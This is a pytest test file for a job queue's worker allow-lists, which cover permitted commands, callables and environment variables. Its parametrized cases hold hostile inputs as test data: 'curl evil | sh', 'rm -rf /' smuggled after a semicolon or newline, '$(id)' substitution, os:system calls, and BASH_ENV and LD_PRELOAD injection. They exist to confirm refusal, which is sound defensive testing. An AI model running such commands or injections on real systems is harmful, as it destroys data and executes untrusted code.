"""A1: a worker that was given lists runs nothing else, and leaves the rest to others, uncharged."""

import json
import signal
from datetime import timedelta

import pytest

from jobq.backend import Backend
from jobq.errors import ConfigurationError
from jobq.run.attempt import allowed
from jobq.settings import Settings
from jobq.settlement import Requeue
from jobq.task import Task
from tests.cli.conftest import Jobq

pytestmark = pytest.mark.check

LISTS = {
    "allow_commands": ("train", "/opt/eval", r"^sleep \d+", r"^echo [a-z ]*"),
    "allow_calls": ("package.train:run",),
    "allow_variables": ("SEED", "PARAM_*"),
}


@pytest.mark.parametrize(
    ("task", "refused_for"),
    [
        ({"argv": ["train", "--lr", "; rm -rf /"]}, None),
        ({"argv": ["/opt/eval"]}, None),
        ({"argv": ["./train"]}, "command"),
        ({"argv": ["trainer"]}, "command"),
        ({"argv": ["bash", "-c", "train"]}, "command"),
        ({"command": "train"}, "command"),  # a shell's text may hold anything behind its first word
        ({"command": "train; curl evil | sh"}, "command"),
        ({"command": "sleep 5"}, None),
        ({"argv": ["sleep", "5"]}, None),
        ({"argv": ["sleep", "5; true"]}, "command"),
        ({"command": "sleep 5\nrm -rf /"}, "command"),
        ({"command": "sleep 5\n"}, "command"),
        ({"command": "echo hi"}, None),
        ({"command": "echo $(id)"}, "command"),
        ({"call": "package.train:run"}, None),
        ({"call": "package.train:run.__globals__"}, "package.train:run.__globals__"),
        ({"call": "os:system", "kwargs": {"command": "id"}}, "os:system"),
        ({"argv": ["train"], "env": {"SEED": "1", "PARAM_lr": "2"}}, None),
        ({"command": "sleep 5", "env": {"BASH_ENV": "$(id > /tmp/out)"}}, "variable BASH_ENV"),
        ({"argv": ["train"], "env": {"SEED": "1", "LD_PRELOAD": "/tmp/x.so"}}, "variable LD_PRELOAD"),
        ({"argv": ["train"], "env": {"seed": "1"}}, "variable seed"),
        ({"call": "package.train:run", "cwd": "/tmp/evil"}, "folder"),
        ({"kwargs": {"n": 1}}, None),  # the function is the program's own
    ],
)
def test_what_is_allowed(task: dict[str, object], refused_for: str | None) -> None:
    why = allowed.refusal(Task.new(**task), Settings(**LISTS))
    assert (why is None) is (refused_for is None)
    assert refused_for is None or refused_for in str(why)
    assert allowed.refusal(Task.new(**task), Settings()) is None


@pytest.mark.parametrize(("given", "other"), [("allow_calls", "train"), ("allow_commands", "m:f")])
def test_a_list_of_the_one_allows_nothing_of_the_other(given: str, other: str) -> None:
    task = Task.new(call=other) if ":" in other else Task.new(argv=[other])
    assert allowed.refusal(task, Settings(**{given: ("x",)})) is not None


def test_what_is_no_regular_expression_is_refused_at_the_start(jobq: Jobq) -> None:
    with pytest.raises(ConfigurationError, match=r"\^\(a is no regular expression"):
        allowed.check(Settings(allow_commands=("^(a",)))
    jobq("demo", "push", "-c", "true")
    result = jobq("demo", "worker", env={"JOBQ_ALLOW_COMMANDS": "^(a"}, code=3)
    assert "jobq: JOBQ_ALLOW_COMMANDS: ^(a is no regular expression" in result.err


def test_what_is_not_allowed_waits_for_another_worker_uncharged(jobq: Jobq) -> None:
    jobq("demo", "push", "--num-retries", "0", "--max-crashes", "0", "--", "touch", "ran")
    jobq("demo", "push", "--", "touch", "own")
    result = jobq("demo", "worker", env={"JOBQ_ALLOW_COMMANDS": r"^touch own"})
    assert not (jobq.folder / "ran").exists()
    assert (jobq.folder / "own").exists()
    assert "its command is not among JOBQ_ALLOW_COMMANDS" in result.out + result.err
    assert "succeeded=1, failed=0, dead_lettered=0" in result.out + result.err
    assert "left in the queue: 1 scheduled" in result.out + result.err
    jobq("demo", "worker", "--max-tasks", "1", "--idle-timeout", "30s")
    assert (jobq.folder / "ran").exists(), "it had no budget for anything to be charged"


def test_a_worker_that_may_run_nothing_of_what_is_queued_ends_and_says_so(jobq: Jobq) -> None:
    jobq("demo", "push", "-", stdin="touch ran\n" * 25)
    result = jobq("demo", "worker", "--json", "-n", "2", env={"JOBQ_ALLOW_CALLS": "m:f"}, code=3)
    events = [json.loads(line) for line in result.lines]
    turned_away = [event for event in events if event["event"] == "task.not_allowed"]
    assert 10 <= len(turned_away) <= 12
    (draining,) = [event for event in events if event["event"] == "worker.draining"]
    assert draining["cause"].startswith("10 different tasks in a row were none that it may run")
    assert not (jobq.folder / "ran").exists()
    (size,) = jobq("demo", "size", "--json").objects
    assert (size["visible"] + size["scheduled"], size["leased"], size["dead"]) == (25, 0, 0)


def test_s11_what_is_not_allowed_kills_nothing_that_is(jobq: Jobq) -> None:
    """Who may push filled the queue with it: the worker stopped, and what it ran was given back until it was dead."""
    wait = f"until [ -e {jobq.folder}/end ]; do sleep 0.05; done"
    jobq("demo", "push", "--max-preemptions", "0", "-c", wait)
    jobq("demo", "push", "-", stdin="touch ran\n" * 12)
    worker = jobq.start("demo", "worker", "--json", "-n", "2", env={"JOBQ_ALLOW_COMMANDS": "^until .*"})
    assert worker.stdout is not None
    events: list[dict[str, object]] = []
    while not events or events[-1]["event"] != "worker.draining":
        events.append(json.loads(worker.stdout.readline()))
    (jobq.folder / "end").touch()
    events += [json.loads(line) for line in worker.stdout]
    assert worker.wait(20) == 3
    assert [event["event"] for event in events if "preempted" in str(event["event"])] == []
    assert (events[-1]["succeeded"], events[-1]["dead_lettered"]) == (1, 0)


def test_s11_no_room_is_made_for_what_is_not_allowed(jobq: Jobq) -> None:
    """It had crashed before, so all slots stood idle for it, for half a minute and longer each time."""
    soon = {"JOBQ_BACKOFF": "1ms", "JOBQ_BACKOFF_MAX": "1ms"}
    jobq("demo", "push", "--max-crashes", "1", "-c", "kill -9 $PPID")

    async def crash(backend: Backend) -> None:
        (held,) = await backend.receive(1, timedelta(seconds=9), timedelta(0))
        await held.settle(Requeue(held.task.counters))

    jobq.inside(crash)
    jobq("demo", "push", "-c", f"until [ -e {jobq.folder}/end ]; do sleep 0.05; done")
    only = {"JOBQ_ALLOW_COMMANDS": "^until .*"}
    worker = jobq.start("demo", "worker", "--json", "-n", "2", env=soon | only)
    assert worker.stdout is not None
    refused = 0
    while refused < 6:  # from then on room was made
        event = json.loads(worker.stdout.readline())
        assert event["event"] != "task.runs_alone"
        refused += event["event"] == "task.not_allowed"
    (jobq.folder / "end").touch()
    worker.send_signal(signal.SIGTERM)
    worker.wait(20)


def test_what_a_user_runs_here_needs_no_list(jobq: Jobq) -> None:
    assert jobq("run", "-", stdin="echo own\n", env={"JOBQ_ALLOW_COMMANDS": "train"}).out == "own\n"
